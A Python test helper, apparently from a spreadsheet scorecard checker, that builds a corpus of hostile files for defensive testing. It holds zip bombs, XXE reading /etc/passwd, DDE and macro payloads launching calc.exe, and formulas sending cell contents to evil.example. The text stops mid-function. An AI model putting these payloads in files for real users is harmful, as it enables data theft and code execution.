#!/usr/bin/env python3
"""The hostile corpus (issue 6): returned files that are broken, odd or malicious, one kind
each, generated at test time from a real scorecard; nothing here is a committed binary.

    python3 tests/hostile_corpus.py DIR     (writes the corpus into DIR and lists it)

Every file starts as a correctly filled card written by ``write_scorecard`` and is then
damaged the way a person, another program or an attacker would: bytes cut or replaced, the zip
re-packed, XML parts edited as bytes. Two start from files of tests/files/ (made by its
make_files.py): the .ods LibreOffice saved, and the password-protected card (encrypting needs
msoffcrypto-tool, which the tests do not install). The zip bomb and the 1,000,000-row sheet are
built cheaply: a block is compressed once and its deflate stream repeated (each copy ends with
a full flush, so it decodes on its own), so 1 GB is never held in memory.
``build_corpus`` returns each :class:`Kind` with the issue code its files must give.
"""

from __future__ import annotations

import io
import os
import re
import struct
import sys
import tempfile
import unicodedata
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent))

from thidua_xlsx import load_campaign  # noqa: E402
from thidua_xlsx.core.model import Campaign  # noqa: E402
from thidua_xlsx.scorecard.blank_cards import scorecard_filename  # noqa: E402
from thidua_xlsx.scorecard.layout import plan_card  # noqa: E402
from thidua_xlsx.scorecard.writer import write_scorecard  # noqa: E402

from conftest import SEED_003  # noqa: E402
from fill_helpers import valid_fill  # noqa: E402

BASE_UNIT = "X-VINHTRUNG"  # the ward whose card every hostile file is made from
TWIN_UNIT = "X-VANGIAO"  # the unit that sends the same card twice
OTHER_UNIT = "X-TANLOI"  # a real unit whose code is written into another unit's card
SAVED = datetime(2024, 9, 15, 8, 0, tzinfo=UTC)  # before the deadline, older than good cards
CARD = "xl/worksheets/sheet1.xml"  # the scorecard sheet of a card written by write_scorecard
META = "xl/worksheets/sheet3.xml"  # its very hidden metadata sheet
ONE_GB = 2**30
DDE = "cmd|' /C calc'!A0"

# cells of the X-VINHTRUNG card (1-based rows): I.5 is scored in points (max 4)
RESULT, EVIDENCE, EXPLANATION = "F18", "H18", "I18"


@dataclass(frozen=True)
class Kind:
    """One kind of hostile file: what it is, its files, and the issue code each must give."""

    name: str
    code: str
    what: str
    files: tuple[str, ...]


Parts = list[tuple[str, bytes]]


def build_corpus(folder: Path, campaign: Campaign | None = None) -> list[Kind]:
    """Write every kind into ``folder`` (which must exist); return the kinds."""
    campaign = campaign or load_campaign(SEED_003)
    base = _card(campaign, BASE_UNIT, 7)
    kinds: list[Kind] = []

    def add(name: str, code: str, what: str, content: bytes, file: str = "") -> None:
        file = file or f"{name}.xlsx"
        (folder / file).write_bytes(content)
        kinds.append(Kind(name, code, what, (file,)))

    def edit(part: str, change: Callable[[bytes], bytes], source: bytes = base) -> bytes:
        return _pack([(n, change(d) if n == part else d) for n, d in _unpack(source)])

    def cell(ref: str, xml: str, kind: str = "") -> bytes:
        return edit(CARD, lambda x: _set_cell(x, ref, xml, kind))

    def meta(key: str, value: str, source: bytes = base) -> bytes:
        row = _meta_row(campaign, key)
        return edit(META, lambda x: _set_cell(x, f"B{row}", _text(value)), source)

    # -- not a workbook, or a damaged one --------------------------------------------------
    add("zero_bytes", "file_empty", "0 bytes", b"")
    add("csv_renamed", "file_not_workbook", "a CSV renamed .xlsx", _csv())
    add("png_renamed", "file_not_workbook", "a PNG image renamed .xlsx", _png())
    add("pdf_renamed", "file_not_workbook", "a PDF renamed .xlsx", _pdf())
    add("html_renamed", "file_not_workbook", "an HTML table saved as .xlsx", _html())
    add("docx_renamed", "file_not_workbook", "a zip that is no workbook", _docx())
    add("truncated_zip", "file_truncated", "a download cut in half", base[: len(base) // 2])
    add("encrypted", "file_encrypted", "password-protected (ECMA-376)", _encrypted())
    # -- zip bombs, huge sheets ------------------------------------------------------------
    add("zip_bomb", "file_unpacked_too_large", "a sheet inflating to 1.1 GB", _bomb(base, False))
    add(
        "zip_bomb_forged_size",
        "file_unpacked_too_large",
        "the same bomb, its directory claiming the original size",
        _bomb(base, True),
    )
    add("million_rows", "sheet_too_large", "1,000,000 rows pasted under the table", _rows(base))
    add(
        "far_cell",
        "sheet_too_large",
        "one value at XFD1048576 (calamine would allocate 17 billion cells)",
        edit(CARD, lambda x: x.replace(b"</sheetData>", _FAR_ROW + b"</sheetData>")),
    )
    add(
        "far_cell_in_metadata",
        "sheet_too_large",
        "one value far away on the hidden metadata sheet",
        edit(META, lambda x: x.replace(b"</sheetData>", _FAR_ROW + b"</sheetData>")),
    )
    add(
        "cells_without_references",
        "sheet_too_large",
        "200,000 rows and 20,000 cells with no r= reference",
        edit(CARD, _unreferenced_flood),
    )
    for name, what, far_row in _FAR_ROWS:
        add(name, "sheet_too_large", what, edit(CARD, _before_sheet_data_end(far_row)))
    far = _before_sheet_data_end(_FAR_ROW)
    add(
        "duplicate_part",
        "file_truncated",
        "the card sheet twice in the zip, the first copy with a far cell (two readers could "
        "disagree on which copy counts)",
        _pack_with_twin(_unpack(base), CARD, far),
    )
    add(
        "ods_repeated_value",
        "sheet_too_large",
        "an .ods whose value is repeated over 2,000 × 100,000 cells",
        _ods_repeated(_ODS_FLOOD),
        "ods_repeated_value.ods",
    )
    for name, what, flood in _ODS_FLOODS:
        add(name, "sheet_too_large", what, _ods_repeated(flood), f"{name}.ods")
    # -- XML that declares entities --------------------------------------------------------
    add(
        "billion_laughs",
        "file_xml_unsafe",
        "entity expansion (billion laughs) in the sheet",
        edit(CARD, lambda x: _set_cell(_with_doctype(x, _LAUGHS), EVIDENCE, _inline("&lol9;"))),
    )
    add(
        "billion_laughs_shared_strings",
        "file_xml_unsafe",
        "entity expansion in the shared strings",
        edit("xl/sharedStrings.xml", lambda x: _with_doctype(x, _LAUGHS, b"<t>", b"<t>&lol9;")),
    )
    add(
        "external_entity",
        "file_xml_unsafe",
        "an external entity (file:///etc/passwd) in the sheet",
        edit(CARD, lambda x: _set_cell(_with_doctype(x, _XXE), EVIDENCE, _inline("&xxe;"))),
    )
    add(
        "external_entity_properties",
        "file_xml_unsafe",
        "an external entity in the document properties",
        edit(
            "docProps/core.xml",
            lambda x: _with_doctype(x, _XXE, b"</dc:title>", b"&xxe;</dc:title>"),
        ),
    )
    # -- macros and links ------------------------------------------------------------------
    add(
        "xlsm_macro",
        "file_has_macro",
        "an .xlsm with a VBA project",
        _macro(base),
        "xlsm_macro.xlsm",
    )
    add(
        "xlm_macro_sheet",
        "file_has_macro",
        "an Excel 4.0 macro sheet part",
        _pack([*_unpack(base), ("xl/macrosheets/sheet1.xml", _MACRO_SHEET)]),
    )
    add(
        "external_link",
        "file_external_link",
        "a formula reading another workbook through an external link",
        _external_link(base),
    )
    # -- sheets and metadata ---------------------------------------------------------------
    add(
        "scorecard_sheet_deleted",
        "file_no_scorecard_sheet",
        "the scorecard sheet removed",
        _drop_sheet(base, "rId1", CARD),
    )
    add(
        "scorecard_sheet_renamed",
        "sheet_renamed",
        "the scorecard sheet renamed Sheet1",
        edit(
            "xl/workbook.xml",
            lambda x: x.replace('name="Phiếu chấm điểm"'.encode(), b'name="Sheet1"'),
        ),
    )
    add(
        "metadata_deleted",
        "file_unknown_template",
        "the hidden metadata sheet removed",
        _drop_sheet(base, "rId3", META),
    )
    add(
        "metadata_unhidden",
        "metadata_unhidden",
        "the hidden metadata sheet made visible",
        edit("xl/workbook.xml", lambda x: x.replace(b' state="veryHidden"', b"")),
    )
    add(
        "metadata_other_fingerprint",
        "file_outdated_template",
        "another campaign's criteria fingerprint",
        meta("fingerprint", "0123456789abcdef"),
    )
    add(
        "metadata_other_campaign",
        "file_other_campaign",
        "another campaign's id",
        meta("campaign_id", "AG-HLHPN-2021"),
    )
    add(
        "metadata_unknown_unit",
        "unit_unknown",
        "a unit code not in the campaign",
        meta("unit_code", "X-KHONGCO"),
    )
    add(
        "another_unit_code",
        "unit_file_name_mismatch",
        "another real unit's code written into this unit's card",
        meta("unit_code", OTHER_UNIT),
        f"{BASE_UNIT}-another_unit_code.xlsx",
    )
    # -- rows and cells --------------------------------------------------------------------
    add(
        "row_inserted",
        "row_extra",
        "a row with a made-up criterion inserted in the table",
        edit(CARD, lambda x: _insert_row(x, 22, "II.1.z", 3)),
    )
    add(
        "row_duplicated",
        "row_duplicate",
        "a criterion's row inserted a second time",
        edit(CARD, lambda x: _insert_row(x, 22, "II.2.c", 3)),
    )
    add(
        "row_deleted",
        "row_missing",
        "a criterion's row deleted",
        edit(CARD, lambda x: re.sub(rb'<row r="41"[^>]*>.*?</row>', b"", x, count=1)),
    )
    add(
        "cells_merged",
        "cell_merged",
        "input cells F21:F24 merged across four criteria",
        edit(CARD, _merge_inputs),
    )
    long_text = ("Kế hoạch số 05/KH-PN ngày 10/01/2024; " * 900)[:32000]
    add(
        "long_text_evidence",
        "text_too_long",
        "32,000 characters of evidence",
        cell(EVIDENCE, _inline(long_text)),
    )
    add(
        "long_text_number",
        "value_not_number",
        "32,000 characters in a number cell",
        cell(RESULT, _inline(long_text)),
    )
    add("nan_in_number", "value_not_number", "NaN in a number cell", cell(RESULT, "<v>NaN</v>"))
    add(
        "inf_in_number", "value_not_number", "infinity in a number cell", cell(RESULT, "<v>inf</v>")
    )
    add(
        "date_in_number",
        "value_date",
        "a date in a number cell",
        cell(RESULT, "<v>2024-05-01T00:00:00</v>", "d"),
    )
    add(
        "bool_in_number", "value_not_number", "TRUE in a number cell", cell(RESULT, "<v>1</v>", "b")
    )
    add("huge_number", "value_too_large", "1E+308 points", cell(RESULT, "<v>1E+308</v>"))
    add(
        "error_in_number",
        "value_excel_error",
        "#REF! in a number cell",
        cell(RESULT, "<v>#REF!</v>", "e"),
    )
    # -- formulas in input and text cells (none is ever evaluated) --------------------------
    hyperlink = 'HYPERLINK("http://evil.example/?q="&amp;H18,"bấm vào đây")'
    add(
        "formula_hyperlink_input",
        "formula_in_input",
        "=HYPERLINK(...) in a number cell",
        cell(RESULT, f"<f>{hyperlink}</f><v>bấm vào đây</v>", "str"),
    )
    add(
        "formula_dde_input",
        "formula_in_input",
        f"={DDE} in a number cell",
        cell(RESULT, f"<f>{escape(DDE)}</f><v>3</v>"),
    )
    add(
        "formula_div0_input",
        "formula_in_input",
        "=1/0 in a number cell",
        cell(RESULT, "<f>1/0</f><v>#DIV/0!</v>", "e"),
    )
    add(
        "formula_hyperlink_text",
        "formula_in_input",
        "=HYPERLINK(...) in the evidence cell",
        cell(EVIDENCE, f"<f>{hyperlink}</f><v>bấm vào đây</v>", "str"),
    )
    add(
        "formula_dde_text",
        "formula_in_input",
        f"={DDE} in the explanation cell",
        cell(EXPLANATION, f"<f>{escape(DDE)}</f><v>0</v>"),
    )
    add(
        "formula_webservice_text",
        "formula_in_input",
        "=WEBSERVICE(...) in the evidence cell",
        cell(
            EVIDENCE,
            '<f>_xlfn.WEBSERVICE("http://evil.example/leak")</f><v>Văn bản số 01</v>',
            "str",
        ),
    )
    add(
        "template_formula_swapped",
        "formula_in_input",
        "a formula typed into an input cell while one of the template's formulas was replaced "
        "by its value (as many formulas as the template has)",
        edit(CARD, lambda x: _set_cell(_set_cell(x, "G18", "<v>3</v>"), RESULT, _F_3)),
    )
    add(
        "template_formula_removed",
        "formula_replaced",
        "the total's formula replaced by a number (the card's own total no longer works)",
        edit(CARD, _total_as_number),
    )
    # -- which part is the sheet (answered by an XML parser, refused when ambiguous) ---------
    add(
        "ods_table_inside_table",
        "file_structure_ambiguous",
        "an .ods whose card holds a table inside a cell (which table is a sheet could be read "
        "two ways)",
        _ods_repeated(_ODS_NESTED, before=b"<table:table-row"),
        "ods_table_inside_table.ods",
    )
    far_card = edit(CARD, far)
    add(
        "sheet_tag_in_comment",
        "sheet_too_large",
        "a <sheet> element inside an XML comment of the workbook (a pattern would take it for "
        "the first sheet and bound the wrong part), the card with a far cell",
        _edit_part(far_card, WORKBOOK, _comment_sheet),
    )
    add(
        "sheet_part_moved_single_quotes",
        "sheet_too_large",
        "the card's part moved out of xl/worksheets/, its relationship written with single "
        "quotes and an absolute target, the card with a far cell",
        _moved_card(far_card),
    )
    add(
        "sheet_target_two_readings",
        "file_structure_ambiguous",
        "a target with '..' naming one part by the standard's rules and another by calamine's "
        "(which holds a far cell)",
        _dotdot_twins(base, far),
    )
    add(
        "part_name_case_twins",
        "file_structure_ambiguous",
        "the card's part twice, names differing only by case (the second with a far cell)",
        _pack([*_unpack(base), ("xl/worksheets/Sheet1.xml", far(_part(base, CARD)))]),
    )
    add(
        "sheet_element_outside_sheets",
        "file_structure_ambiguous",
        "a <sheet> element in the workbook's extensions (calamine lists it, the standard not)",
        _edit_part(base, WORKBOOK, _extension_sheet),
    )
    add(
        "relationship_id_twice",
        "file_structure_ambiguous",
        "the card's relationship Id given twice, the second pointing at a part with a far cell",
        _relationship_twice(base, far),
    )
    add(
        "workbook_named_otherwise",
        "file_not_workbook",
        "the workbook part renamed xl/book.xml (calamine reads only xl/workbook.xml)",
        _renamed_workbook(base),
    )
    add(
        "target_with_reference",
        "file_structure_ambiguous",
        "the card's target written with &amp; (calamine reads it as written, the standard "
        "decodes it): two parts, the one calamine would read with a far cell",
        _referenced_target(base, far),
    )
    add(
        "workbook_relationship_twice",
        "file_structure_ambiguous",
        "a second officeDocument relationship, external, to another folder (calamine takes "
        "the last one of any mode)",
        _edit_part(base, "_rels/.rels", _external_workbook),
    )
    add(
        "zip_unicode_name",
        "file_structure_ambiguous",
        "a zip entry with an Info-ZIP Unicode name naming the card's part (calamine's zip "
        "reader takes it, Python's ignores it)",
        _unicode_named(base, far),
    )
    add(
        "ods_table_prefix_rebound",
        "file_structure_ambiguous",
        "an .ods binding a second prefix to the table namespace (calamine reads written names)",
        _ods_content(lambda x: x.replace(b"<office:document-content ", _T_PREFIX, 1)),
        "ods_table_prefix_rebound.ods",
    )
    add(
        "ods_table_name_twice",
        "file_structure_ambiguous",
        "an .ods whose card's table is there twice under one name (calamine keeps the last)",
        _ods_content(_table_twice),
        "ods_table_name_twice.ods",
    )
    add(
        "formula_cell_without_reference",
        "formula_in_input",
        "a formula in the result cell written without its reference, the cell before it "
        "naming another row (placed by its <row>, as calamine places it)",
        edit(CARD, _unreferenced_formula),
    )
    add(
        "formula_cell_foreign_namespace",
        "formula_in_input",
        "a formula cell in a namespace of its own (calamine matches elements by local name)",
        edit(CARD, _foreign_formula),
    )
    add(
        "array_formula_over_input",
        "formula_in_input",
        "an array formula in the method cell whose range covers the result cell",
        edit(
            CARD, lambda x: _set_cell(x, "C18", '<f t="array" ref="C18:F18">{1,2,3,4}</f><v>1</v>')
        ),
    )
    # -- unit codes and names that are formulas or paths (the file names are too) ------------
    for name, code, file in (
        ("unit_code_equals", '=HYPERLINK("http://evil.example","Xem")', '=HYPERLINK("x").xlsx'),
        ("unit_code_plus", f"+{DDE}", "+cmd|' C calc'!A0.xlsx"),
        ("unit_code_minus", f"-2+3+{DDE}", "-2+3.xlsx"),
        ("unit_code_at", "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1).xlsx"),
        ("unit_code_dotdot", "../../etc/passwd", "x..y..etc..passwd.xlsx"),
        ("unit_code_slash", f"{BASE_UNIT}/../../tmp/x", "a:b.xlsx"),
        ("unit_code_backslash", "..\\..\\Windows\\win.ini", "..\\..\\Windows\\win.ini.xlsx"),
        ("unit_code_colon", "C:evil", "C:evil.xlsx"),
    ):
        add(
            name,
            "unit_code_invalid",
            f"unit code {code!r}",
            meta("unit_code", code, meta("unit_name", code)),
            file,
        )
    # -- text --------------------------------------------------------------------------------
    evidence = "Kế hoạch số 05/KH-PN ngày 10/01/2024 của Hội Liên hiệp Phụ nữ"
    nfd = unicodedata.normalize("NFD", evidence)
    add("nfd_text", "text_not_nfc", "decomposed (NFD) Vietnamese", cell(EVIDENCE, _inline(nfd)))
    add(
        "tcvn3_text",
        "text_legacy_encoding",
        "TCVN3 (.Vn fonts) text",
        cell(EVIDENCE, _inline(TCVN3)),
    )
    twin = _card(campaign, TWIN_UNIT, 11)
    files = (scorecard_filename(campaign.unit(TWIN_UNIT)), f"{TWIN_UNIT} (2).xlsx")
    for file in files:
        (folder / file).write_bytes(twin)
    kinds.append(Kind("same_unit_twice", "unit_duplicate", "one unit's card sent twice", files))
    # -- the tool's own files, found again in an inbox ---------------------------------------
    add(
        "feedback_copy_unchanged",
        "file_feedback_copy",
        "a feedback copy made by thidua, put in the inbox as it was written",
        _feedback_copy(campaign, base),
    )
    # -- entries that are not regular files (POSIX) ------------------------------------------
    if hasattr(os, "mkfifo") and hasattr(os, "symlink"):
        for name, code, what, make in _ENTRIES:
            make(folder / name)
            kinds.append(Kind(name, code, what, (name,)))
    return kinds


def _link_loop(path: Path) -> None:
    path.symlink_to(path.name)


_ENTRIES: list[tuple[str, str, str, Callable[[Path], None]]] = [
    (
        "link_dangling.xlsx",
        "file_link_broken",
        "a link to a file that is gone",
        lambda p: p.symlink_to("gone.xlsx"),
    ),
    ("link_loop.xlsx", "file_link_broken", "a link to itself", _link_loop),
    (
        "link_to_device.xlsx",
        "file_not_regular",
        "a link to a device (/dev/zero)",
        lambda p: p.symlink_to("/dev/zero"),
    ),
    ("named_pipe.xlsx", "file_not_regular", "a named pipe (FIFO) nobody writes to", os.mkfifo),
]


def _feedback_copy(campaign: Campaign, card: bytes) -> bytes:
    """A feedback copy of ``card`` as ``check --feedback`` writes it (the same values)."""
    from thidua_xlsx.checking.checker import check_file

    layout = plan_card(campaign, campaign.unit(BASE_UNIT))
    with tempfile.TemporaryDirectory(prefix="thidua-hostile-") as tmp:
        source = Path(tmp) / "card.xlsx"
        source.write_bytes(card)
        result = check_file(campaign, source)
        copy = Path(tmp) / "copy.xlsx"
        write_scorecard(
            copy,
            layout,
            result.values,  # type: ignore[arg-type]
            result.inputs,
            generated_at=SAVED,
            feedback_of=source.name,
        )
        return copy.read_bytes()


# -- the base cards ---------------------------------------------------------------------------


def _card(campaign: Campaign, unit: str, seed: int) -> bytes:
    """A correctly filled card of ``unit``, as bytes."""
    layout = plan_card(campaign, campaign.unit(unit))
    values, inputs = valid_fill(layout, seed)
    with tempfile.TemporaryDirectory(prefix="thidua-hostile-") as tmp:
        path = Path(tmp) / "card.xlsx"
        write_scorecard(path, layout, values, inputs, generated_at=SAVED)  # type: ignore[arg-type]
        return path.read_bytes()


def _meta_row(campaign: Campaign, key: str) -> int:
    layout = plan_card(campaign, campaign.unit(BASE_UNIT))
    keys = [k for k, _ in layout.metadata("", "", None)]
    return keys.index(key) + 1


# -- zip and XML editing ----------------------------------------------------------------------

WORKBOOK = "xl/workbook.xml"
RELS = "xl/_rels/workbook.xml.rels"
_F_3 = "<f>1+2</f><v>3</v>"


def _part(data: bytes, name: str) -> bytes:
    return dict(_unpack(data))[name]


def _edit_part(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    return _pack([(n, change(d) if n == name else d) for n, d in _unpack(data)])


def _total_as_number(xml: bytes) -> bytes:
    """The TỔNG ĐIỂM row's G cell: its formula dropped, the cached number kept."""
    row = re.search(rb'<c r="G(\d+)"[^>]*><f>ROUND\(MAX\(MIN\(', xml)
    assert row is not None
    ref = f"G{row.group(1).decode()}"
    cell = re.search(rb'<c r="' + ref.encode() + rb'"[^>]*>.*?</c>', xml)
    assert cell is not None
    value = re.search(rb"<v>([^<]*)</v>", cell.group(0))
    return _set_cell(xml, ref, f"<v>{value.group(1).decode() if value else '0'}</v>")


def _comment_sheet(xml: bytes) -> bytes:
    return xml.replace(b"<sheets>", b'<sheets><!--<sheet name="x" sheetId="9" r:id="rId2"/>-->')


def _extension_sheet(xml: bytes) -> bytes:
    ext = b'<extLst><ext uri="{x}"><sheet name="y" sheetId="9" r:id="rId2"/></ext></extLst>'
    return xml.replace(b"</workbook>", ext + b"</workbook>")


def _moved_card(data: bytes) -> bytes:
    parts = [("xl/data/card.xml" if n == CARD else n, d) for n, d in _unpack(data)]
    rels = b"Target='/xl/data/card.xml'"
    return _pack(
        [
            (n, d.replace(b'Target="worksheets/sheet1.xml"', rels) if n == RELS else d)
            for n, d in parts
        ]
    )


def _dotdot_twins(data: bytes, far: Callable[[bytes], bytes]) -> bytes:
    """The card's target ``../data/card.xml``: the standard reads ``data/card.xml`` (the card
    as it is), calamine ``xl/../data/card.xml`` (an entry of that very name, with a far cell)."""
    card = _part(data, CARD)
    parts = [(n, d) for n, d in _unpack(data) if n != CARD]
    parts = [
        (n, d.replace(b'Target="worksheets/sheet1.xml"', b'Target="../data/card.xml"'))
        if n == RELS
        else (n, d)
        for n, d in parts
    ]
    return _pack([*parts, ("data/card.xml", card), ("xl/../data/card.xml", far(card))])


def _relationship_twice(data: bytes, far: Callable[[bytes], bytes]) -> bytes:
    twin = (
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/worksheet" Target="worksheets/far.xml"/>'
    )
    parts = [
        (n, d.replace(b"</Relationships>", twin + b"</Relationships>")) if n == RELS else (n, d)
        for n, d in _unpack(data)
    ]
    return _pack([*parts, ("xl/worksheets/far.xml", far(_part(data, CARD)))])


def _renamed_workbook(data: bytes) -> bytes:
    parts = []
    for name, part in _unpack(data):
        if name == WORKBOOK:
            name = "xl/book.xml"
        elif name == RELS:
            name = "xl/_rels/book.xml.rels"
        elif name == "_rels/.rels":
            part = part.replace(b"xl/workbook.xml", b"xl/book.xml")
        elif name == "[Content_Types].xml":
            part = part.replace(b"/xl/workbook.xml", b"/xl/book.xml")
        parts.append((name, part))
    return _pack(parts)


def _unpack(data: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _pack(parts: Parts) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(
                zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED
            )
    return buffer.getvalue()


def _pack_with_twin(parts: Parts, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """``parts`` with a changed copy of part ``name`` written before the original."""
    twin = [(n, change(d)) for n, d in parts if n == name]
    with warnings.catch_warnings():  # zipfile warns of the duplicate name: that is the point
        warnings.simplefilter("ignore", UserWarning)
        return _pack(twin + parts)


def _set_cell(xml: bytes, ref: str, content: str, kind: str = "") -> bytes:
    """Replace cell ``ref`` (keeping its style) with ``content`` (the XML inside ``<c>``)."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"( s="\d+")?(?: t="\w+")?(?:/>|>.*?</c>)')
    match = pattern.search(xml)
    assert match is not None, ref
    style = match.group(1) or b""
    kind = kind or ("inlineStr" if content.startswith("<is>") else "")
    kind_attr = f' t="{kind}"'.encode() if kind else b""
    new = b'<c r="' + ref.encode() + b'"' + style + kind_attr + b">" + content.encode() + b"</c>"
    return xml[: match.start()] + new + xml[match.end() :]


def _inline(text: str) -> str:
    return f"<is><t>{text}</t></is>"


def _text(text: str) -> str:
    return f'<is><t xml:space="preserve">{escape(text)}</t></is>'


_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)
_XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
_FAR_ROW = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
_MAIN_NS = b'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
# the far cell written the ways calamine also reads, which a plain r="…" scan would miss
_FAR_ROWS = [
    (
        "far_cell_prefixed",
        "the far cell in namespace-prefixed elements (<x:row>, <x:c>)",
        b"<x:row " + _MAIN_NS + b' r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>',
    ),
    (
        "far_cell_second_reference",
        "a cell whose second r= attribute is the far one (calamine takes the last)",
        b'<row r="30"><c r="B30" r="XFD1048576"><v>1</v></c></row>',
    ),
    (
        "far_cell_single_quotes",
        "the far cell's reference in single quotes",
        b"<row r='1048576'><c r='XFD1048576'><v>1</v></c></row>",
    ),
    (
        "far_cell_quoted_bracket",
        "a '>' inside a quoted attribute before the far reference",
        b'<row r="30"><c s="0" x:y="a>b" r="XFD1048576" ' + _MAIN_NS + b"><v>1</v></c></row>",
    ),
]


def _with_doctype(xml: bytes, doctype: bytes, old: bytes = b"", new: bytes = b"") -> bytes:
    head, _, body = xml.partition(b"?>")
    if old:
        body = body.replace(old, new, 1)
    return head + b"?>\n" + doctype + body


def _insert_row(xml: bytes, at: int, code: str, value: int) -> bytes:
    """Insert a row before 1-based row ``at``: later rows, cells and merges move down."""

    def shift_ref(match: re.Match[bytes]) -> bytes:
        letters, number = match.group(1), int(match.group(2))
        return letters + str(number + 1 if number >= at else number).encode()

    def shift_row(match: re.Match[bytes]) -> bytes:
        number = int(match.group(1))
        return b'<row r="' + str(number + 1 if number >= at else number).encode() + b'"'

    xml = re.sub(rb'<row r="(\d+)"', shift_row, xml)
    xml = re.sub(rb'(?<=<c r=")([A-Z]+)(\d+)', shift_ref, xml)
    xml = re.sub(rb'(?<=<mergeCell ref=")([A-Z]+)(\d+)', shift_ref, xml)
    xml = re.sub(rb'(?<=:)([A-Z]+)(\d+)(?="/>)', shift_ref, xml)
    row = (
        f'<row r="{at}"><c r="A{at}" t="inlineStr"><is><t>{code}</t></is></c>'
        f'<c r="F{at}"><v>{value}</v></c></row>'
    ).encode()
    anchor = xml.index(f'<row r="{at + 1}"'.encode())
    return xml[:anchor] + row + xml[anchor:]


def _merge_inputs(xml: bytes) -> bytes:
    """F21:F24 merged as Excel does it: the covered cells lose their values."""
    for ref in ("F22", "F23", "F24"):
        xml = re.sub(
            rb'<c r="' + ref.encode() + rb'"( s="\d+")?(?: t="\w+")?(?:/>|>.*?</c>)',
            rb'<c r="' + ref.encode() + rb'"\1/>',
            xml,
            count=1,
        )
    xml = re.sub(
        rb'<mergeCells count="(\d+)">',
        lambda m: b'<mergeCells count="%d">' % (int(m.group(1)) + 1),
        xml,
    )
    return xml.replace(b"</mergeCells>", b'<mergeCell ref="F21:F24"/></mergeCells>', 1)


def _unreferenced_flood(xml: bytes) -> bytes:
    """Rows and cells without r= references: calamine places them one after another."""
    wide = b"<row>" + b"<c/>" * 20000 + b"<c><v>1</v></c></row>"
    return xml.replace(b"</sheetData>", b"<row/>" * 200_000 + wide + b"</sheetData>", 1)


def _drop_sheet(base: bytes, rel_id: str, part: str) -> bytes:
    parts = []
    for name, data in _unpack(base):
        if name == part:
            continue
        if name == "xl/workbook.xml":
            data = re.sub(rb'<sheet [^>]*r:id="' + rel_id.encode() + rb'"/>', b"", data)
            data = re.sub(rb"<definedNames>.*?</definedNames>", b"", data)
        if name == "xl/_rels/workbook.xml.rels":
            data = re.sub(rb'<Relationship Id="' + rel_id.encode() + rb'"[^>]*/>', b"", data)
        if name == "[Content_Types].xml":
            data = re.sub(rb'<Override PartName="/' + part.encode() + rb'"[^>]*/>', b"", data)
        parts.append((name, data))
    return _pack(parts)


# -- macros, links ------------------------------------------------------------------------------

_MACRO_SHEET = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
    b'<c r="A1"><f>EXEC("calc.exe")</f></c><c r="A2"><f>HALT()</f></c></row></sheetData>'
    b"</xm:macrosheet>"
)


def _macro(base: bytes) -> bytes:
    """A VBA project part (not a valid one: anything that tried to run it would fail)."""
    parts = []
    for name, data in _unpack(base):
        if name == "[Content_Types].xml":
            data = data.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ).replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                b"</Types>",
            )
        if name == "xl/_rels/workbook.xml.rels":
            data = data.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
                b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            )
        parts.append((name, data))
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Sub Auto_Open(): Shell "calc.exe": End Sub'
    return _pack([*parts, ("xl/vbaProject.bin", vba)])


def _external_link(base: bytes) -> bytes:
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>4</v></cell></row>'
        b"</sheetData></sheetDataSet></externalBook></externalLink>"
    )
    link_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\diem.xlsx" '
        b'TargetMode="External"/></Relationships>'
    )
    parts = []
    for name, data in _unpack(base):
        if name == CARD:
            data = _set_cell(data, RESULT, "<f>[1]Sheet1!A1</f><v>4</v>")
        if name == "xl/workbook.xml":
            data = data.replace(
                b"</sheets>",
                b'</sheets><externalReferences><externalReference r:id="rId98"/>'
